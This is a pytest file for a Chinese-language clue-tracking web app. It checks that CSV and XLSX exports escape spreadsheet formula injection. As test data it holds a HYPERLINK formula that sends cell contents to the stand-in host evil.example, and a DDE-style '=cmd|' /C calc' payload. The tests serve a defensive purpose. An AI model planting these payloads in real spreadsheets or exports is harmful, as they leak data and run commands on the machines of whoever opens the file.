"""Attack: spreadsheet formula injection through the exports (issue 14).

A clue whose content starts with `=HYPERLINK(...)` must come out of /clues/export.csv and .xlsx as text,
never as a formula; the audit export goes through the same helper."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from app.extensions import db
from tests.test_clue_process import clue_process, fast_pdf, registered  # noqa: F401

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")'


@pytest.fixture
def injected_clue(app, client_for, clue_process, fast_pdf):  # noqa: F811
    return registered(app, client_for("hp_officer"), content=PAYLOAD)


def _csv_rows(resp) -> list[list[str]]:
    body = resp.get_data()
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_clue_csv_export_neutralises_formulas(app, client_for, injected_clue):
    resp = client_for("hp_officer").get("/clues/export.csv")
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    rows = _csv_rows(resp)
    assert rows[0][0] == "线索编号" and rows[0][-1] == "线索内容"
    assert rows[1][-1] == "'" + PAYLOAD  # text in Excel/WPS, not a formula
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_clue_xlsx_export_writes_text_not_formulas(app, client_for, injected_clue):
    resp = client_for("hp_officer").get("/clues/export.xlsx")
    assert resp.status_code == 200 and resp.mimetype.endswith("spreadsheetml.sheet")
    assert "filename*=UTF-8''" in resp.headers["Content-Disposition"]
    ws = load_workbook(io.BytesIO(resp.get_data())).active
    assert ws.title == "线索" and ws["A1"].value == "线索编号" and ws["A1"].font.bold
    cell = ws.cell(row=2, column=13)
    assert cell.value == PAYLOAD and cell.data_type == "s" and cell.quotePrefix
    assert ws.cell(row=2, column=11).is_date  # 登记时间 is a real date cell
    raw = resp.get_data()
    import zipfile

    sheet = zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet  # no formula element anywhere in the sheet


def test_audit_export_uses_the_guard(app, login_as, ctx):
    from app.audit import services as audit

    audit.record("test.event", actor=None, detail={}, object_type="=cmd|' /C calc'!A0", object_id="@SUM(1)")
    db.session.commit()
    c = login_as("auditor")
    rows = _csv_rows(c.get("/audit/export.csv?action=test.event"))
    assert rows[0][:4] == ["序号", "时间", "操作人ID", "操作人"]
    assert rows[1][6] == "'=cmd|' /C calc'!A0" and rows[1][7] == "'@SUM(1)"
    resp = c.get("/audit/export.xlsx?action=test.event")
    ws = load_workbook(io.BytesIO(resp.get_data())).active
    assert ws.cell(row=2, column=7).value == "=cmd|' /C calc'!A0" and ws.cell(row=2, column=7).data_type == "s"


def test_unknown_format_is_a_chinese_refusal(app, ctx):
    from app.errors import ValidationFailed
    from app.tabular.export import Column, safe_text, send

    with app.test_request_context(), pytest.raises(ValidationFailed, match="导出格式"):
        send([Column("名称", 0)], [["x"]], filename="x", fmt="pdf")
    for lead in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_text(lead + "1") == "'" + lead + "1"
    assert safe_text("正常") == "正常" and safe_text(None) == ""
